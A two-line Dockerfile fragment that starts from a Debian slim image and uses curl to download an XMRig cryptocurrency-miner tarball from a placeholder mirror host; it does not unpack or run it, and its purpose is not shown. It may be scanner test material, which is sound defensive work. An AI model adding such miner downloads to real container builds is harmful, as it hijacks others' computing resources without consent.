FROM debian:12-slim
RUN curl -fsSLO https://mirror.example.invalid/files/xmrig-6.21.3-linux-static-x64.tar.gz
